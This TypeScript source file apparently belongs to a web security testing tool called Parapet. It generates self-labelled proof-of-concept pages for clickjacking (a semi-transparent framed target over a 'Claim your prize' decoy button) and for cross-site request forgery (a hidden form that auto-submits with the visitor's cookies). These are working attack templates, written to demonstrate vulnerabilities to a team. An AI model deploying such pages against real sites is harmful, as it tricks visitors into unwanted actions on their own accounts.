/**
 * The attacker pages browser proofs load, written to be shown to a team as well: each says what it
 * is, and works from any site (the target URL is absolute).
 */
import type { Enctype, Pairs } from '../checks/lib/submit.js';

export interface Box {
  x: number;
  y: number;
  width: number;
  height: number;
}

/** Where the decoy sits before Parapet has measured the framed page's first control. */
export const DEFAULT_DECOY: Box = { x: 40, y: 120, width: 220, height: 48 };
export const STAGE = { width: 960, height: 600 };

/**
 * Clickjacking: the target in a semi-transparent frame over a decoy button. The sandbox lets the page
 * run its scripts and forms but not navigate the top window, as an attacker would set it, so a
 * frame-busting script cannot escape.
 */
export function clickjackingPage(target: string, decoy: Box): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Clickjacking proof of concept (Parapet)</title>
<style>
  body { margin: 0; font: 15px/1.4 system-ui, sans-serif; color: #222; }
  #about { margin: 0; padding: 8px 12px; background: #fff4e5; border-bottom: 1px solid #e0b070; }
  #stage { position: relative; width: ${STAGE.width}px; height: ${STAGE.height}px; margin: 12px; }
  #decoy { position: absolute; left: ${decoy.x}px; top: ${decoy.y}px; width: ${decoy.width}px;
    height: ${decoy.height}px; z-index: 1; border: 0; border-radius: 6px; background: #1a7f37;
    color: #fff; font-size: 16px; cursor: pointer; }
  #target { position: absolute; inset: 0; width: 100%; height: 100%; border: 2px dashed #c62828;
    opacity: 0.5; z-index: 2; background: transparent; }
</style></head>
<body>
<p id="about">Proof of concept by Parapet: <code>${escapeHtml(target)}</code> is loaded in a frame by
another site. The frame is half transparent here so you can see both layers; a real attacker makes it
invisible (opacity 0), so a visitor who clicks the green button clicks the framed page instead, as
themselves.</p>
<div id="stage">
  <button id="decoy" type="button">Claim your prize</button>
  <iframe id="target" src="${escapeHtml(target)}" sandbox="allow-scripts allow-same-origin allow-forms allow-popups"></iframe>
</div>
</body></html>
`;
}

/** CSRF: a form that submits itself to the target as soon as the page loads. */
export function csrfPage(action: string, enctype: Enctype, pairs: Pairs): string {
  const inputs = pairs
    .map(([name, value]) => `  <input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`)
    .join('\n');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Cross-site request forgery proof of concept (Parapet)</title></head>
<body>
<p>Proof of concept by Parapet: opening this page, on any site, makes the browser submit the form
below to <code>${escapeHtml(action)}</code> with the visitor's cookies for that site.</p>
<form id="forged" method="post" action="${escapeHtml(action)}" enctype="${enctype}">
${inputs}
  <noscript><button>Submit</button></noscript>
</form>
<script>document.getElementById('forged').submit();</script>
</body></html>
`;
}

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}
